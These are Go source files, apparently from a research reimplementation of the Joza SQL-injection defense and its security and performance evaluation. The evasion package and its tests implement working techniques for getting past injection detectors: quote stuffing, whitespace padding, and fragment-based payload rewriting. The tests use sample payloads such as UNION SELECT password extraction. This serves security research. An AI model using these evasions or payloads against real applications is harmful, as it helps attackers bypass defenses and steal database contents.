	if len(m.order) > m.cap {
		evicted := m.order[len(m.order)-1]
		m.order = m.order[:len(m.order)-1]
		delete(m.pos, evicted)
	}
}

// IDs returns the fragment IDs from most to least recently used.
func (m *MRU) IDs() []int {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]int, len(m.order))
	copy(out, m.order)
	return out
}

// Len returns the number of tracked fragment IDs.
func (m *MRU) Len() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.order)
}
