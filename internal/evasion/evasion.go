// Package evasion implements the two attack-adaptation techniques of the
// Joza paper's security evaluation (Section V):
//
//   - NTI evasion exploits application-side input transformations. Quote
//     stuffing appends a comment block full of quotes that magic quotes
//     inflates with backslashes; whitespace padding appends spaces the
//     application trims. Both drive the NTI difference ratio above the
//     matching threshold, whatever that threshold is.
//   - Taintless, the automated PTI-evasion tool, reconstructs an attack
//     payload from string fragments available in the application: it
//     substitutes equivalent tokens, matches the letter case and
//     whitespace of available fragments, and removes tokens that can be
//     safely removed. If every critical token of the rewritten payload is
//     covered by a program fragment, PTI deems the resulting query safe.
package evasion

import (
	"math"
	"strings"

	"joza/internal/fragments"
	"joza/internal/sqltoken"
)

// QuoteStuffing returns the payload extended with a block comment stuffed
// with enough single quotes that, after the application applies magic
// quotes (one added backslash per quote), the NTI difference ratio exceeds
// threshold. The comment keeps the SQL semantics of the payload unchanged.
func QuoteStuffing(payload string, threshold float64) string {
	// After magic quotes the matched query substring has length
	// len(payload) + len(" /**/") + 2q and edit distance q (q added
	// backslashes). Solve q/(len+5+2q) >= threshold and double for margin.
	if threshold >= 0.5 {
		threshold = 0.49 // quote stuffing cannot reach ratios >= 0.5 alone
	}
	base := float64(len(payload) + 5)
	q := int(math.Ceil(threshold*base/(1-2*threshold))) * 2
	if q < 4 {
		q = 4
	}
	return payload + " /*" + strings.Repeat("'", q) + "*/"
}

// WhitespacePadding returns the payload extended with enough trailing
// spaces that, after the application trims whitespace, the NTI difference
// ratio exceeds threshold.
func WhitespacePadding(payload string, threshold float64) string {
	n := int(math.Ceil(threshold*float64(len(payload))))*2 + 2
	return payload + strings.Repeat(" ", n)
}

// Taintless is the automated PTI-evasion tool: it rewrites attack payloads
// using only the fragment vocabulary of a target application.
type Taintless struct {
	set *fragments.Set
	// fragTokens caches, per fragment ID, the fragment's token texts.
	fragTokens [][]string
	// byFirst indexes fragment IDs by their (upper-cased) first token text.
	byFirst map[string][]int
}

// NewTaintless builds the tool over the application's fragment set.
func NewTaintless(set *fragments.Set) *Taintless {
	t := &Taintless{
		set:     set,
		byFirst: make(map[string][]int),
	}
	t.fragTokens = make([][]string, set.Len())
	for id := 0; id < set.Len(); id++ {
		toks := sqltoken.Lex(set.Fragment(id))
		texts := make([]string, len(toks))
		for i, tk := range toks {
			texts[i] = tk.Text
		}
		t.fragTokens[id] = texts
		if len(texts) > 0 {
			key := strings.ToUpper(texts[0])
			t.byFirst[key] = append(t.byFirst[key], id)
		}
	}
	return t
}

// Evade attempts to rewrite payload so that every critical token is
// covered by a single application fragment. It returns the rewritten
// payload and whether the rewrite fully succeeded. A successful rewrite is
// semantically equivalent to the original payload (modulo removed
// removable tokens such as a trailing comment or the ALL of UNION ALL).
func (t *Taintless) Evade(payload string) (string, bool) {
	toks := sqltoken.Lex(payload)
	var out strings.Builder
	ok := true
	i := 0
	for i < len(toks) {
		tk := toks[i]
		if !tk.Critical() {
			writeSpaced(&out, tk.Text)
			i++
			continue
		}
		// Try to cover the longest token run starting at i with one
		// fragment (matching the fragment's case and whitespace).
		if fragText, n := t.coverRun(toks, i); n > 0 {
			writeSpaced(&out, fragText)
			i += n
			continue
		}
		// Try equivalent substitutions for this single token.
		if fragText, consumed, replaced := t.substitute(toks, i); replaced {
			writeSpaced(&out, fragText)
			i += consumed
			continue
		}
		// Remove the token if it is safely removable.
		if removable(toks, i) {
			i++
			continue
		}
		// Give up on this token: emit it and mark failure.
		writeSpaced(&out, tk.Text)
		ok = false
		i++
	}
	return strings.TrimSpace(out.String()), ok
}

// EvadeVerified runs Evade and then confirms the evasion with the caller's
// oracle (typically: embed the payload into the vulnerable query and check
// that PTI deems it safe). It returns the payload and whether the oracle
// confirmed the evasion.
func (t *Taintless) EvadeVerified(payload string, evades func(rewritten string) bool) (string, bool) {
	rewritten, ok := t.Evade(payload)
	if !ok {
		return rewritten, false
	}
	return rewritten, evades(rewritten)
}

// writeSpaced appends text with a separating space when needed.
func writeSpaced(out *strings.Builder, text string) {
	if out.Len() > 0 {
		out.WriteByte(' ')
	}
	out.WriteString(text)
}

// coverRun finds a fragment whose token sequence matches the tokens
// starting at position i (case-insensitively), preferring the longest run.
// It returns the fragment text (emitted verbatim so PTI sees an exact
// occurrence) and the number of payload tokens consumed.
func (t *Taintless) coverRun(toks []sqltoken.Token, i int) (string, int) {
	bestLen := 0
	bestFrag := ""
	for _, id := range t.byFirst[strings.ToUpper(toks[i].Text)] {
		fts := t.fragTokens[id]
		if len(fts) == 0 || i+len(fts) > len(toks) {
			continue
		}
		match := true
		for j, ft := range fts {
			if !strings.EqualFold(ft, toks[i+j].Text) {
				match = false
				break
			}
		}
		// The run must end cleanly: all critical tokens inside the run are
		// covered by construction; data tokens within the run must also
		// match exactly (they are part of the fragment bytes), which the
		// EqualFold check ensures textually.
		if match && len(fts) > bestLen {
			bestLen = len(fts)
			bestFrag = t.set.Fragment(id)
		}
	}
	if bestLen == 0 {
		return "", 0
	}
	return bestFrag, bestLen
}

// equivalents lists substitution candidates for common attack tokens, per
// the paper: UNION ↔ UNION ALL, CHAR(...) ↔ string literal, comment-style
// changes, operator synonyms.
var equivalents = map[string][][]string{
	"UNION": {{"UNION", "ALL"}},
	"AND":   {{"&&"}},
	"OR":    {{"||"}},
	"&&":    {{"AND"}},
	"||":    {{"OR"}},
	"!=":    {{"<>"}},
	"<>":    {{"!="}},
}

// substitute tries equivalent token sequences for the critical token at i,
// covering the substituted sequence with fragments. Returns the emitted
// text, the number of original tokens consumed, and success.
func (t *Taintless) substitute(toks []sqltoken.Token, i int) (string, int, bool) {
	tk := toks[i]
	for _, alt := range equivalents[strings.ToUpper(tk.Text)] {
		// Build a synthetic token run for the alternative and try to cover
		// it with a single fragment.
		if frag, ok := t.coverTexts(alt); ok {
			return frag, 1, true
		}
		// Or cover each alternative token with its own fragment.
		var parts []string
		all := true
		for _, a := range alt {
			f, ok := t.coverTexts([]string{a})
			if !ok {
				all = false
				break
			}
			parts = append(parts, f)
		}
		if all {
			return strings.Join(parts, " "), 1, true
		}
	}
	// Comment-style substitution: try each comment form the application's
	// fragments provide.
	if tk.Kind == sqltoken.KindComment {
		for _, form := range []string{"#", "-- ", "/**/"} {
			if frag, ok := t.coverTexts([]string{form}); ok {
				return frag, 1, true
			}
		}
	}
	return "", 0, false
}

// coverTexts finds a fragment whose token texts equal texts
// (case-insensitively).
func (t *Taintless) coverTexts(texts []string) (string, bool) {
	if len(texts) == 0 {
		return "", false
	}
	for _, id := range t.byFirst[strings.ToUpper(texts[0])] {
		fts := t.fragTokens[id]
		if len(fts) != len(texts) {
			continue
		}
		match := true
		for j := range fts {
			if !strings.EqualFold(fts[j], texts[j]) {
				match = false
				break
			}
		}
		if match {
			return t.set.Fragment(id), true
		}
	}
	return "", false
}

// removable reports whether the critical token at i can be dropped without
// breaking the payload: trailing comments (attack padding), the ALL of
// UNION ALL, and redundant parentheses around the whole payload tail are
// the cases Taintless removes.
func removable(toks []sqltoken.Token, i int) bool {
	tk := toks[i]
	if tk.Kind == sqltoken.KindComment && i == len(toks)-1 {
		return true
	}
	if strings.EqualFold(tk.Text, "ALL") && i > 0 && strings.EqualFold(toks[i-1].Text, "UNION") {
		return true
	}
	return false
}
