package evasion

import (
	"strings"
	"testing"

	"joza/internal/fragments"
	"joza/internal/nti"
	"joza/internal/pti"
	"joza/internal/webapp"
)

func TestQuoteStuffingDefeatsNTI(t *testing.T) {
	analyzer := nti.MustNew()
	payload := "-1 OR 1=1"
	evaded := QuoteStuffing(payload, analyzer.Threshold())
	// The application applies magic quotes before query construction.
	transformed := webapp.MagicQuotes(evaded)
	q := "SELECT * FROM data WHERE ID=" + transformed
	res := analyzer.Analyze(q, nil, []nti.Input{{Source: "get", Name: "id", Value: evaded}})
	if res.Attack {
		t.Errorf("quote stuffing failed to evade NTI: %+v", res.Reasons)
	}
	// Without stuffing, the same attack is caught.
	q2 := "SELECT * FROM data WHERE ID=" + webapp.MagicQuotes(payload)
	res2 := analyzer.Analyze(q2, nil, []nti.Input{{Source: "get", Name: "id", Value: payload}})
	if !res2.Attack {
		t.Error("baseline attack should be caught")
	}
}

func TestQuoteStuffingAdaptsToThreshold(t *testing.T) {
	// Raising the threshold must not stop the evasion: the attacker just
	// adds more quotes (the paper's argument that threshold tuning is not
	// a remedy).
	for _, th := range []float64{0.1, 0.2, 0.3, 0.4, 0.6} {
		analyzer := nti.MustNew(nti.WithThreshold(th))
		payload := "-1 OR 1=1"
		evaded := QuoteStuffing(payload, th)
		q := "SELECT * FROM data WHERE ID=" + webapp.MagicQuotes(evaded)
		res := analyzer.Analyze(q, nil, []nti.Input{{Source: "get", Name: "id", Value: evaded}})
		if th < 0.5 && res.Attack {
			t.Errorf("threshold %v: evasion failed", th)
		}
	}
}

func TestQuoteStuffingKeepsAttackWorking(t *testing.T) {
	// The stuffed comment must not change SQL semantics: the query still
	// parses and the tautology still holds.
	payload := QuoteStuffing("-1 OR 1=1", 0.2)
	q := "SELECT * FROM data WHERE ID=" + webapp.MagicQuotes(payload)
	// After magic quotes the comment contains \' sequences; the lexer
	// must still see the OR keyword outside the comment.
	if !strings.Contains(q, "OR 1=1") {
		t.Fatalf("payload mangled: %q", q)
	}
}

func TestWhitespacePaddingDefeatsNTI(t *testing.T) {
	analyzer := nti.MustNew()
	payload := "-1 OR 1=1"
	evaded := WhitespacePadding(payload, analyzer.Threshold())
	// The application trims the input before query construction.
	q := "SELECT * FROM data WHERE ID=" + strings.TrimSpace(evaded)
	res := analyzer.Analyze(q, nil, []nti.Input{{Source: "get", Name: "id", Value: evaded}})
	if res.Attack {
		t.Errorf("whitespace padding failed to evade NTI: %+v", res.Reasons)
	}
}

func richFragmentSet() *fragments.Set {
	// An application whose vocabulary is rich enough to rebuild common
	// payloads: it contains UNION/SELECT/FROM keywords, operators, and
	// punctuation in its own SQL literals.
	return fragments.NewSet([]string{
		"SELECT * FROM posts WHERE id=",
		" union ",
		"select ",
		", ",
		" from ",
		"users",
		" OR ",
		"=",
		"1",
		"#",
		" LIMIT ",
		"-", // hyphens occur pervasively in real application literals
	})
}

func TestTaintlessRebuildsTautology(t *testing.T) {
	tl := NewTaintless(richFragmentSet())
	rewritten, ok := tl.Evade("1 OR 1=1")
	if !ok {
		t.Fatalf("Evade failed: %q", rewritten)
	}
	// Verify against real PTI: embed in the vulnerable query.
	analyzer := pti.New(richFragmentSet())
	q := "SELECT * FROM posts WHERE id=" + rewritten
	if res := analyzer.Analyze(q, nil); res.Attack {
		t.Errorf("rewritten payload %q still caught by PTI: %v", rewritten, res.Reasons)
	}
}

func TestTaintlessCaseMatching(t *testing.T) {
	// The application only has lowercase " union " — Taintless must emit
	// the fragment's own case.
	tl := NewTaintless(richFragmentSet())
	rewritten, ok := tl.Evade("-1 UNION SELECT password FROM users")
	if !ok {
		t.Fatalf("Evade failed: %q", rewritten)
	}
	if strings.Contains(rewritten, "UNION") {
		t.Errorf("UNION not case-matched: %q", rewritten)
	}
	analyzer := pti.New(richFragmentSet())
	q := "SELECT * FROM posts WHERE id=" + rewritten
	if res := analyzer.Analyze(q, nil); res.Attack {
		t.Errorf("rewritten %q caught: %v", rewritten, res.Reasons)
	}
}

func TestTaintlessRemovesUnionAll(t *testing.T) {
	tl := NewTaintless(richFragmentSet())
	rewritten, ok := tl.Evade("-1 UNION ALL SELECT password FROM users")
	if !ok {
		t.Fatalf("Evade failed: %q", rewritten)
	}
	if strings.Contains(strings.ToUpper(rewritten), " ALL ") {
		t.Errorf("ALL not removed: %q", rewritten)
	}
}

func TestTaintlessDropsTrailingComment(t *testing.T) {
	set := fragments.NewSet([]string{" OR ", "=", "1"})
	tl := NewTaintless(set)
	rewritten, ok := tl.Evade("1 OR 1=1 -- x")
	if !ok {
		t.Fatalf("Evade failed: %q", rewritten)
	}
	if strings.Contains(rewritten, "--") {
		t.Errorf("trailing comment kept: %q", rewritten)
	}
}

func TestTaintlessCommentSubstitution(t *testing.T) {
	// Application has "#" but the payload uses "-- "; the comment is not
	// trailing (so not removable) — substitute the available form.
	set := fragments.NewSet([]string{" OR ", "=", "1", "#"})
	tl := NewTaintless(set)
	rewritten, ok := tl.Evade("1 OR 1=1 -- x")
	_ = rewritten
	// Trailing comments are removable, which takes precedence; verify at
	// least that evasion succeeds.
	if !ok {
		t.Fatalf("Evade failed: %q", rewritten)
	}
}

func TestTaintlessFailsOnPoorVocabulary(t *testing.T) {
	// The application has no UNION/SELECT vocabulary: Taintless must
	// report failure (matching the paper's 37/50 plugins it could not
	// adapt).
	set := fragments.NewSet([]string{"SELECT * FROM posts WHERE id=", " LIMIT 5"})
	tl := NewTaintless(set)
	_, ok := tl.Evade("-1 UNION SELECT password FROM users")
	if ok {
		t.Error("Evade should fail without vocabulary")
	}
}

func TestTaintlessOperatorEquivalents(t *testing.T) {
	// Application has || but not OR.
	set := fragments.NewSetKeepAll([]string{"||", "=", "1"})
	tl := NewTaintless(set)
	rewritten, ok := tl.Evade("1 OR 1=1")
	if !ok {
		t.Fatalf("Evade failed: %q", rewritten)
	}
	if !strings.Contains(rewritten, "||") {
		t.Errorf("OR not substituted with ||: %q", rewritten)
	}
}

func TestEvadeVerified(t *testing.T) {
	set := richFragmentSet()
	tl := NewTaintless(set)
	analyzer := pti.New(set)
	embed := func(p string) bool {
		q := "SELECT * FROM posts WHERE id=" + p
		return !analyzer.Analyze(q, nil).Attack
	}
	if _, ok := tl.EvadeVerified("1 OR 1=1", embed); !ok {
		t.Error("verified evasion should succeed")
	}
	poor := NewTaintless(fragments.NewSet([]string{" LIMIT 5"}))
	if _, ok := poor.EvadeVerified("1 OR 1=1", embed); ok {
		t.Error("verified evasion should fail on poor vocabulary")
	}
}

func TestTaintlessMultiTokenFragmentRun(t *testing.T) {
	// Fragment "ORDER BY" covers two payload tokens at once.
	set := fragments.NewSet([]string{"ORDER BY", "1"})
	tl := NewTaintless(set)
	rewritten, ok := tl.Evade("1 ORDER BY 1")
	if !ok {
		t.Fatalf("Evade failed: %q", rewritten)
	}
	if !strings.Contains(rewritten, "ORDER BY") {
		t.Errorf("run not covered: %q", rewritten)
	}
}
