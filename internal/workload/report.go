package workload

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"joza/internal/pti"
)

// measureRepeats is how many times each configuration is measured. The
// first run is discarded as warm-up and the median of the rest is kept,
// suppressing scheduler and GC noise at the sub-millisecond request scale.
const measureRepeats = 7

// measure runs the request batch under prot measureRepeats times from
// identical database state and returns the fastest run. regen, when
// non-nil, produces a fresh batch per repetition — required whenever the
// batch contains writes, whose data values must be new every time (reusing
// them would let the exact-query cache absorb the INSERTs, hiding exactly
// the effect Table V measures).
func measure(site *Site, reqs []*Request, prot *Protection, regen func() []*Request) (Timing, error) {
	runs := make([]Timing, 0, measureRepeats)
	for i := 0; i < measureRepeats; i++ {
		if err := site.Reset(); err != nil {
			return Timing{}, err
		}
		batch := reqs
		if regen != nil {
			batch = regen()
		}
		tm, err := RunRequests(site, batch, prot)
		if err != nil {
			return Timing{}, err
		}
		if i == 0 {
			continue // warm-up run: caches, branch predictors, allocator
		}
		runs = append(runs, tm)
	}
	return medianTiming(runs), nil
}

func medianTiming(runs []Timing) Timing {
	sort.Slice(runs, func(a, b int) bool { return runs[a].Total < runs[b].Total })
	return runs[len(runs)/2]
}

// measurePair interleaves plain and protected runs of the same batches so
// slow machine-level drift (CPU frequency scaling, page-cache warming)
// cancels out of the overhead comparison. It returns the medians of each
// side.
func measurePair(site *Site, reqs []*Request, prot *Protection, regen func() []*Request) (plain, protected Timing, err error) {
	plainRuns := make([]Timing, 0, measureRepeats)
	protRuns := make([]Timing, 0, measureRepeats)
	for i := 0; i < measureRepeats; i++ {
		batch := reqs
		if regen != nil {
			batch = regen()
		}
		if err := site.Reset(); err != nil {
			return Timing{}, Timing{}, err
		}
		pl, err := RunRequests(site, batch, nil)
		if err != nil {
			return Timing{}, Timing{}, err
		}
		if err := site.Reset(); err != nil {
			return Timing{}, Timing{}, err
		}
		pr, err := RunRequests(site, batch, prot)
		if err != nil {
			return Timing{}, Timing{}, err
		}
		if i == 0 {
			continue // warm-up pair
		}
		plainRuns = append(plainRuns, pl)
		protRuns = append(protRuns, pr)
	}
	return medianTiming(plainRuns), medianTiming(protRuns), nil
}

// ---------------------------------------------------------------------------
// Table V — read/write overhead per PTI cache configuration.

// Table5Row is one configuration's measured overhead.
type Table5Row struct {
	Config        string
	ReadOverhead  float64 // percent
	WriteOverhead float64 // percent
}

// Table5Result carries every row plus the raw timings for inspection.
type Table5Result struct {
	Rows      []Table5Row
	PlainRead Timing
	PlainWrit Timing
}

// RunTable5 measures read/write request overhead under the paper's cache
// configurations: no cache, query cache, query+structure cache, and the
// in-process "extension estimate" (query+structure cache with no daemon
// transport; here both use Direct, the daemon variants are exercised in
// Figure 7 and the transport ablation).
func RunTable5(site *Site, nRequests int) (*Table5Result, error) {
	reads := site.GenerateRequests(Read, nRequests)
	writes := site.GenerateRequests(Write, nRequests)

	regenWrites := func() []*Request { return site.GenerateRequests(Write, nRequests) }
	res := &Table5Result{}

	configs := []struct {
		name    string
		variant PTIVariant
	}{
		{"PTI daemon, no cache", PTIVariant{Cache: pti.CacheNone, Remote: true}},
		{"PTI daemon, query cache", PTIVariant{Cache: pti.CacheQuery, Remote: true}},
		{"PTI daemon, query+structure cache", PTIVariant{Cache: pti.CacheQueryAndStructure, Remote: true}},
		{"PTI extension estimate", PTIVariant{Cache: pti.CacheQueryAndStructure}},
	}
	for _, cfg := range configs {
		prot, stop := NewProtection(cfg.name, site, cfg.variant, true)
		plainRead, rt, err := measurePair(site, reads, prot, nil)
		if err != nil {
			stop()
			return nil, fmt.Errorf("%s reads: %w", cfg.name, err)
		}
		plainWrite, wt, err := measurePair(site, writes, prot, regenWrites)
		stop()
		if err != nil {
			return nil, fmt.Errorf("%s writes: %w", cfg.name, err)
		}
		res.PlainRead, res.PlainWrit = plainRead, plainWrite
		res.Rows = append(res.Rows, Table5Row{
			Config:        cfg.name,
			ReadOverhead:  OverheadPercent(rt, plainRead),
			WriteOverhead: OverheadPercent(wt, plainWrite),
		})
	}
	return res, nil
}

// Format renders the Table V report.
func (r *Table5Result) Format() string {
	var sb strings.Builder
	sb.WriteString("TABLE V: PTI overhead by request type and cache configuration\n")
	fmt.Fprintf(&sb, "%-36s %12s %12s\n", "Configuration", "Read ovh", "Write ovh")
	for _, row := range r.Rows {
		fmt.Fprintf(&sb, "%-36s %11.2f%% %11.2f%%\n", row.Config, row.ReadOverhead, row.WriteOverhead)
	}
	fmt.Fprintf(&sb, "(plain read %.3fms, plain write %.3fms per request)\n",
		ms(r.PlainRead.PerRequest()), ms(r.PlainWrit.PerRequest()))
	return sb.String()
}

// ---------------------------------------------------------------------------
// Table VI — overall overhead by workload mix.

// Table6Row is one workload mix measurement.
type Table6Row struct {
	WritePct  float64
	ReadPct   float64
	PlainMs   float64
	GuardedMs float64
	Overhead  float64 // percent
}

// RunTable6 measures the fully-protected (daemon + both caches + NTI)
// overhead under the paper's read/write mixes.
func RunTable6(site *Site, nRequests int) ([]Table6Row, error) {
	mixes := []float64{0.50, 0.10, 0.05, 0.01}
	var out []Table6Row
	for _, w := range mixes {
		w := w
		regen := func() []*Request { return site.GenerateMix(Mix{WriteFraction: w}, nRequests) }
		reqs := regen()
		prot, stop := NewProtection("joza", site,
			PTIVariant{Cache: pti.CacheQueryAndStructure, Remote: true}, true)
		plain, guarded, err := measurePair(site, reqs, prot, regen)
		stop()
		if err != nil {
			return nil, err
		}
		out = append(out, Table6Row{
			WritePct:  w * 100,
			ReadPct:   (1 - w) * 100,
			PlainMs:   ms(plain.PerRequest()),
			GuardedMs: ms(guarded.PerRequest()),
			Overhead:  OverheadPercent(guarded, plain),
		})
	}
	return out, nil
}

// FormatTable6 renders the Table VI report.
func FormatTable6(rows []Table6Row) string {
	var sb strings.Builder
	sb.WriteString("TABLE VI: Joza overhead on different workloads\n")
	fmt.Fprintf(&sb, "%8s %8s %12s %14s %10s\n", "Writes", "Reads", "Plain ms", "Protected ms", "Overhead")
	for _, r := range rows {
		fmt.Fprintf(&sb, "%7.0f%% %7.0f%% %12.4f %14.4f %9.2f%%\n",
			r.WritePct, r.ReadPct, r.PlainMs, r.GuardedMs, r.Overhead)
	}
	return sb.String()
}

// ---------------------------------------------------------------------------
// Table VII — WordPress.com workload statistics and predicted overhead.

// WordPressStats holds the published yearly averages the paper cites
// ([40], [41]): new content items (writes) versus page views (reads).
// Values are representative of the 2010–2014 WordPress.com statistics the
// paper draws on.
type WordPressStats struct {
	NewPosts    float64
	NewPages    float64
	NewComments float64
	RPCPosts    float64
	PageViews   float64
}

// DefaultWordPressStats mirrors Table VII's conclusion: well under one
// percent of requests are writes.
func DefaultWordPressStats() WordPressStats {
	return WordPressStats{
		NewPosts:    52.9e6,
		NewPages:    8.1e6,
		NewComments: 46.1e6,
		RPCPosts:    21.4e6,
		PageViews:   20.1e9,
	}
}

// WriteFraction derives the share of write requests.
func (s WordPressStats) WriteFraction() float64 {
	writes := s.NewPosts + s.NewPages + s.NewComments + s.RPCPosts
	total := writes + s.PageViews
	if total == 0 {
		return 0
	}
	return writes / total
}

// PredictOverhead combines measured read/write overheads with the derived
// write fraction, the paper's "<4% on average" conclusion.
func (s WordPressStats) PredictOverhead(readOverheadPct, writeOverheadPct float64) float64 {
	w := s.WriteFraction()
	return readOverheadPct*(1-w) + writeOverheadPct*w
}

// FormatTable7 renders the Table VII report.
func FormatTable7(s WordPressStats, readOverheadPct, writeOverheadPct float64) string {
	var sb strings.Builder
	sb.WriteString("TABLE VII: WordPress.com workload (yearly averages) and predicted Joza overhead\n")
	fmt.Fprintf(&sb, "  new posts:    %14.0f\n", s.NewPosts)
	fmt.Fprintf(&sb, "  new pages:    %14.0f\n", s.NewPages)
	fmt.Fprintf(&sb, "  new comments: %14.0f\n", s.NewComments)
	fmt.Fprintf(&sb, "  RPC posts:    %14.0f\n", s.RPCPosts)
	fmt.Fprintf(&sb, "  page views:   %14.0f\n", s.PageViews)
	fmt.Fprintf(&sb, "  write fraction: %.3f%%\n", s.WriteFraction()*100)
	fmt.Fprintf(&sb, "  predicted overhead (read %.2f%%, write %.2f%%): %.2f%%\n",
		readOverheadPct, writeOverheadPct,
		s.PredictOverhead(readOverheadPct, writeOverheadPct))
	return sb.String()
}

// ---------------------------------------------------------------------------
// Figure 7 — PTI per-request cost breakdown, unoptimized vs optimized.

// Figure7Bar is one bar of the breakdown.
type Figure7Bar struct {
	Config string
	// AppDB is request time outside PTI (application + database).
	AppDB time.Duration
	// PTIProcessing is analysis time (including IPC for remote daemons).
	PTIProcessing time.Duration
}

// RunFigure7 measures the read-request PTI breakdown for the unoptimized
// configuration (per-fragment scan, full marking, no MRU, no caches, a
// fresh daemon spawned per request — the paper's initial implementation)
// versus the optimized long-lived daemon (MRU, parse-first, both caches).
func RunFigure7(site *Site, nRequests int) ([]Figure7Bar, error) {
	reads := site.GenerateRequests(Read, nRequests)
	configs := []struct {
		name    string
		variant PTIVariant
	}{
		{"unoptimized PTI", PTIVariant{
			NoParseFirst: true, NoMRU: true,
			Cache: pti.CacheNone, SpawnPerRequest: true,
		}},
		{"optimized PTI daemon", PTIVariant{
			Cache: pti.CacheQueryAndStructure, Remote: true,
		}},
	}
	var out []Figure7Bar
	for _, cfg := range configs {
		prot, stop := NewProtection(cfg.name, site, cfg.variant, false)
		tm, err := measure(site, reads, prot, nil)
		stop()
		if err != nil {
			return nil, fmt.Errorf("%s: %w", cfg.name, err)
		}
		out = append(out, Figure7Bar{
			Config:        cfg.name,
			AppDB:         (tm.Total - tm.PTI) / time.Duration(tm.Requests),
			PTIProcessing: tm.PTI / time.Duration(tm.Requests),
		})
	}
	return out, nil
}

// FormatFigure7 renders the Figure 7 report, including the processing-time
// reduction the optimizations achieve.
func FormatFigure7(bars []Figure7Bar) string {
	var sb strings.Builder
	sb.WriteString("FIGURE 7: PTI request-time breakdown (per read request)\n")
	fmt.Fprintf(&sb, "%-24s %14s %18s\n", "Configuration", "app+db ms", "PTI processing ms")
	for _, b := range bars {
		fmt.Fprintf(&sb, "%-24s %14.4f %18.4f\n", b.Config, ms(b.AppDB), ms(b.PTIProcessing))
	}
	if len(bars) == 2 && bars[0].PTIProcessing > 0 {
		reduction := (1 - float64(bars[1].PTIProcessing)/float64(bars[0].PTIProcessing)) * 100
		fmt.Fprintf(&sb, "optimizations reduce PTI processing time by %.0f%%\n", reduction)
	}
	return sb.String()
}

// ---------------------------------------------------------------------------
// Figure 8 — read/write/search request times with and without Joza.

// Figure8Row is one request kind's comparison.
type Figure8Row struct {
	Kind      RequestKind
	PlainMs   float64
	NTIMs     float64
	PTIMs     float64
	GuardedMs float64
}

// RunFigure8 compares plain vs protected request times per request kind,
// with the NTI/PTI component times broken out.
func RunFigure8(site *Site, nRequests int) ([]Figure8Row, error) {
	var out []Figure8Row
	for _, kind := range []RequestKind{Read, Write, Search} {
		kind := kind
		var regen func() []*Request
		if kind != Read {
			regen = func() []*Request { return site.GenerateRequests(kind, nRequests) }
		}
		reqs := site.GenerateRequests(kind, nRequests)
		prot, stop := NewProtection("joza", site,
			PTIVariant{Cache: pti.CacheQueryAndStructure, Remote: true}, true)
		plain, guarded, err := measurePair(site, reqs, prot, regen)
		stop()
		if err != nil {
			return nil, err
		}
		n := time.Duration(guarded.Requests)
		out = append(out, Figure8Row{
			Kind:      kind,
			PlainMs:   ms(plain.PerRequest()),
			NTIMs:     ms(guarded.NTI / n),
			PTIMs:     ms(guarded.PTI / n),
			GuardedMs: ms(guarded.PerRequest()),
		})
	}
	return out, nil
}

// FormatFigure8 renders the Figure 8 report.
func FormatFigure8(rows []Figure8Row) string {
	var sb strings.Builder
	sb.WriteString("FIGURE 8: request times with and without Joza (per request)\n")
	fmt.Fprintf(&sb, "%-8s %11s %10s %10s %13s %10s\n",
		"Kind", "Plain ms", "NTI ms", "PTI ms", "Protected ms", "Overhead")
	for _, r := range rows {
		ovh := 0.0
		if r.PlainMs > 0 {
			ovh = (r.GuardedMs - r.PlainMs) / r.PlainMs * 100
		}
		fmt.Fprintf(&sb, "%-8s %11.4f %10.4f %10.4f %13.4f %9.2f%%\n",
			r.Kind, r.PlainMs, r.NTIMs, r.PTIMs, r.GuardedMs, ovh)
	}
	return sb.String()
}

func ms(d time.Duration) float64 {
	return float64(d) / float64(time.Millisecond)
}
