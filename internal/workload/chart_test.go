package workload

import (
	"strings"
	"testing"
	"time"
)

func TestChartRender(t *testing.T) {
	c := NewChart()
	c.AddStacked("short", []float64{1}, []byte{'#'})
	c.AddStacked("long", []float64{2, 2}, []byte{'.', '#'})
	out := c.Render()
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("lines = %q", lines)
	}
	if !strings.Contains(lines[0], "short") || !strings.Contains(lines[1], "long") {
		t.Errorf("labels missing: %q", out)
	}
	// The longer bar must render more glyphs.
	if strings.Count(lines[1], ".")+strings.Count(lines[1], "#") <=
		strings.Count(lines[0], "#") {
		t.Errorf("scaling wrong:\n%s", out)
	}
	// Totals printed at the end of each row.
	if !strings.Contains(lines[0], "1.000") || !strings.Contains(lines[1], "4.000") {
		t.Errorf("totals missing: %q", out)
	}
}

func TestChartNegativeAndEmpty(t *testing.T) {
	c := NewChart()
	c.AddStacked("neg", []float64{-5}, []byte{'#'})
	out := c.Render()
	if !strings.Contains(out, "0.000") {
		t.Errorf("negative clamped total: %q", out)
	}
	empty := NewChart()
	if empty.Render() != "" {
		t.Error("empty chart should render nothing")
	}
}

func TestChartDefaultGlyph(t *testing.T) {
	c := NewChart()
	c.AddStacked("x", []float64{3}, nil)
	if !strings.Contains(c.Render(), "#") {
		t.Error("default glyph missing")
	}
}

func TestChartFigure7(t *testing.T) {
	bars := []Figure7Bar{
		{Config: "unoptimized", AppDB: time.Millisecond, PTIProcessing: 2 * time.Millisecond},
		{Config: "optimized", AppDB: time.Millisecond, PTIProcessing: time.Millisecond / 10},
	}
	out := ChartFigure7(bars)
	if !strings.Contains(out, "unoptimized") || !strings.Contains(out, "legend") {
		t.Errorf("chart = %q", out)
	}
	// The unoptimized bar carries more '#' than the optimized one.
	lines := strings.Split(out, "\n")
	if strings.Count(lines[0], "#") <= strings.Count(lines[1], "#") {
		t.Errorf("PTI segment scaling wrong:\n%s", out)
	}
}

func TestChartFigure8(t *testing.T) {
	rows := []Figure8Row{
		{Kind: Read, PlainMs: 1.0, NTIMs: 0.05, PTIMs: 0.02, GuardedMs: 1.1},
	}
	out := ChartFigure8(rows)
	for _, want := range []string{"read plain", "read joza", "legend"} {
		if !strings.Contains(out, want) {
			t.Errorf("chart missing %q:\n%s", want, out)
		}
	}
}

func TestSparkline(t *testing.T) {
	if sparkline(nil) != "" {
		t.Error("empty sparkline")
	}
	s := sparkline([]float64{0, 1, 2, 3})
	if len([]rune(s)) != 4 {
		t.Errorf("sparkline = %q", s)
	}
	flat := sparkline([]float64{5, 5, 5})
	if len([]rune(flat)) != 3 {
		t.Errorf("flat sparkline = %q", flat)
	}
}

func TestSparklineTable6(t *testing.T) {
	rows := []Table6Row{
		{WritePct: 50, Overhead: 9},
		{WritePct: 1, Overhead: 4},
	}
	out := SparklineTable6(rows)
